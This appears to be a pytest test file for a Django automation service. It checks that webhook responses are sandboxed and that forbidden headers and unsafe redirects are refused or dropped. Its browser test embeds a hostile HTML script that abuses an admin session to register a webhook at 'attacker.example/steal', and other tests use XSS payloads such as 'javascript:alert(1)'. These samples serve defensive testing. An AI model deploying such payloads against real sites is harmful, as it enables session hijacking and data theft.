"""An automation's answer cannot act with the app's authority: every answer under /webhook/ is
sandboxed, and the headers that would let a tenant touch the origin are refused or dropped."""

import os

import pytest
import requests
from django.core.signals import request_started
from django.test import Client

from automations.models import Automation, Run
from subscriptions.models import Subscription
from support.models import ProjectUser, Role

from .conftest import finished_run

FORCED = {"x-content-type-options": "nosniff", "content-security-policy": "sandbox; default-src 'none'"}
CHROMIUM = "/usr/bin/chromium"


def saved_without_validation(project, owner, steps: list) -> Automation:
    """A flow stored as it is, as flows saved before these checks existed may be."""
    return Automation.objects.create(project=project, name="old", flow={"steps": steps}, created_by=owner)


def answer(status: int = 200, headers: dict | None = None, body="<b>hi</b>") -> dict:
    return {"id": "answer", "action": "response", "status": status, "body": body, "headers": headers or {}}


def assert_sandboxed(response: requests.Response) -> None:
    assert {name: response.headers.get(name) for name in FORCED} == FORCED, response.headers


@pytest.mark.parametrize(
    "header",
    [
        "Set-Cookie",
        "set-cookie",
        "Content-Security-Policy",
        "Strict-Transport-Security",
        "Access-Control-Allow-Origin",
        "Access-Control-Allow-Credentials",
        "Connection",
        "Keep-Alive",
        "Transfer-Encoding",
        "Upgrade",
        "TE",
        "Trailer",
        "Proxy-Authenticate",
    ],
)
def test_a_flow_setting_a_forbidden_header_is_refused_at_save_naming_it(api, project, header):
    flow = {"steps": [answer(headers={"X-Fine": "1", header: "x"})]}
    response = api.post(f"/api/projects/{project.pk}/automations/", {"name": "x", "flow": flow}, format="json")
    assert response.status_code == 400
    (problem,) = response.json()["flow"]
    assert problem["path"] == "steps[0]" and problem["step_id"] == "answer"
    assert problem["message"].startswith("'headers': the response header") and repr(header) in problem["message"]


@pytest.mark.parametrize("location", ["javascript:alert(1)", "data:text/html,<script>x</script>", "/admin/", "//evil"])
def test_a_location_that_is_not_an_http_url_is_refused_at_save(api, project, location):
    flow = {"steps": [answer(status=302, headers={"Location": location})]}
    response = api.post(f"/api/projects/{project.pk}/automations/", {"name": "x", "flow": flow}, format="json")
    assert response.status_code == 400
    assert "'Location' must be an http(s) URL" in response.json()["flow"][0]["message"]


def test_harmless_headers_and_web_locations_are_accepted(api, project):
    headers = {"Location": "https://example.com/thanks", "X-Order": "A7", "Cache-Control": "no-store"}
    flow = {"steps": [answer(status=303, headers=headers), answer(headers={"Location": "{{ payload.to }}"})]}
    flow["steps"][1]["id"] = "later"
    response = api.post(f"/api/projects/{project.pk}/automations/", {"name": "x", "flow": flow}, format="json")
    assert response.status_code == 201, response.json()


def test_forbidden_headers_of_a_flow_saved_earlier_are_dropped_at_run_time(project, owner, hook):
    automation = saved_without_validation(
        project,
        owner,
        [
            answer(
                status=302,
                headers={
                    "Set-Cookie": "sessionid=planted; Path=/",
                    "Content-Security-Policy": "default-src *",
                    "Access-Control-Allow-Origin": "*",
                    "Strict-Transport-Security": "max-age=1",
                    "Location": "{{ payload.to }}",
                    "X-Kept": "yes",
                },
            )
        ],
    )
    response = requests.post(hook(automation), json={"to": "javascript:alert(1)"}, allow_redirects=False, timeout=10)
    assert response.status_code == 302 and response.headers["X-Kept"] == "yes"
    for name in ("Set-Cookie", "Access-Control-Allow-Origin", "Strict-Transport-Security", "Location"):
        assert name not in response.headers
    assert_sandboxed(response)
    step = finished_run(automation).trace[0]
    assert sorted(step["input"]["dropped_headers"]) == sorted(
        [
            "Set-Cookie",
            "Content-Security-Policy",
            "Access-Control-Allow-Origin",
            "Strict-Transport-Security",
            "Location",
        ]
    )


def test_a_templated_web_location_is_kept(project, owner, hook):
    automation = saved_without_validation(
        project, owner, [answer(status=302, headers={"Location": "{{ payload.to }}"})]
    )
    response = requests.post(hook(automation), json={"to": "https://example.com/x"}, allow_redirects=False, timeout=10)
    assert response.status_code == 302 and response.headers["Location"] == "https://example.com/x"


@pytest.mark.parametrize("dev", [False, True])
def test_every_answer_under_webhook_is_sandboxed_whatever_it_is(make_automation, project, owner, hook, settings, dev):
    html = make_automation([answer(headers={"Content-Type": "text/html"})])
    forget = make_automation([{"action": "log", "message": "later"}])
    failing = make_automation([{"action": "set", "name": "x", "value": "{{ 1 / 0 }}"}, answer()])
    disabled = make_automation([answer()], enabled=False)
    throttled = make_automation([answer()])
    saved_csp = saved_without_validation(project, owner, [answer(headers={"Content-Security-Policy": "default-src *"})])
    base = hook(html, dev=dev).rsplit("/webhook/", 1)[0]
    answers = [
        requests.post(hook(html, dev=dev), json={}, timeout=10),
        requests.post(hook(saved_csp, dev=dev), json={}, timeout=10),
        requests.post(hook(forget, dev=dev), json={}, timeout=10),
        requests.post(hook(failing, dev=dev), json={}, timeout=10),
        requests.post(hook(disabled, dev=dev), json={}, timeout=10),
        requests.post(hook(html, dev=dev), data=b"{broken", headers={"Content-Type": "application/json"}, timeout=10),
        requests.get(f"{base}/webhook/no-such-id", timeout=10),
        requests.get(f"{base}/webhook/no-such-id/with/more/parts", timeout=10),
    ]
    settings.AUTOMATION_MAX_BODY_BYTES = 10
    answers.append(requests.post(hook(html, dev=dev), json={"long": "x" * 100}, timeout=10))
    settings.AUTOMATION_THROTTLE_RATE = "1/min"
    requests.post(hook(throttled, dev=dev), json={}, timeout=10)
    answers.append(requests.post(hook(throttled, dev=dev), json={}, timeout=10))
    assert [r.status_code for r in answers] == [200, 200, 200, 502, 422, 400, 404, 404, 413, 429]
    for response in answers:
        assert_sandboxed(response)


def test_other_paths_keep_their_own_headers(client, db):
    assert "content-security-policy" not in {k.lower() for k in client.get("/healthz").headers}


@pytest.mark.browser
def test_a_members_browser_runs_no_script_of_an_automation_answer(project, make_user, live_server, hook):
    """A logged-in admin opens an automation URL whose answer is an HTML page with a script that
    uses their session against the API (list projects, create a subscription) and plants a cookie."""
    from playwright.sync_api import sync_playwright

    if not os.path.exists(CHROMIUM):
        pytest.fail(f"{CHROMIUM} is missing: .ci/run installs Debian's chromium")
    admin = make_user("admin", is_staff=True, is_superuser=True)
    ProjectUser.objects.create(project=project, user=admin, email=admin.email, role=Role.ADMIN)
    page_html = (
        "<html><body><h1 id=t>offer</h1><script>(async () => {"
        "  const mine = await fetch('/api/projects/', {credentials: 'include'});"
        "  document.getElementById('t').textContent = 'projects ' + mine.status;"
        "  await fetch('/admin/', {credentials: 'include'});"
        "  const token = (document.cookie.match(/csrftoken=([^;]+)/) || [])[1];"
        f"  await fetch('/api/projects/{project.pk}/subscriptions/', {{method: 'POST', credentials: 'include',"
        "    headers: {'Content-Type': 'application/json', 'X-CSRFToken': token},"
        "    body: JSON.stringify({event: 'request.create', target: 'https://attacker.example/steal'})});"
        "  document.title = 'done';"
        "})();</script></body></html>"
    )
    automation = saved_without_validation(
        project,
        admin,
        [
            answer(
                headers={"Content-Type": "text/html; charset=utf-8", "Set-Cookie": "planted=1; Path=/"}, body=page_html
            )
        ],
    )
    client = Client()
    client.force_login(admin)
    session = client.cookies["sessionid"].value
    reached_api: list[str] = []

    def record(sender, environ, **kwargs):
        if environ.get("PATH_INFO", "").startswith("/api/"):
            reached_api.append(environ["PATH_INFO"])

    request_started.connect(record)
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=CHROMIUM, headless=True, args=["--no-sandbox", "--disable-gpu"]
            )
            try:
                context = browser.new_context()
                context.add_cookies([{"name": "sessionid", "value": session, "url": live_server.url}])
                page = context.new_page()
                shown = page.goto(hook(automation))
                page.wait_for_timeout(2000)  # what the script would have needed to do its work
                headers = shown.all_headers()
                title, heading = page.title(), page.text_content("#t")
                cookies = {cookie["name"]: cookie["value"] for cookie in context.cookies()}
            finally:
                browser.close()
    finally:
        request_started.disconnect(record)
    assert headers["content-security-policy"] == "sandbox; default-src 'none'" and "set-cookie" not in headers
    assert (title, heading) == ("", "offer")  # the page is shown, its script never ran
    assert reached_api == []
    assert not Subscription.objects.filter(project=project).exists()
    assert cookies == {"sessionid": session}
    assert Run.objects.get(automation=automation).status == "succeeded"
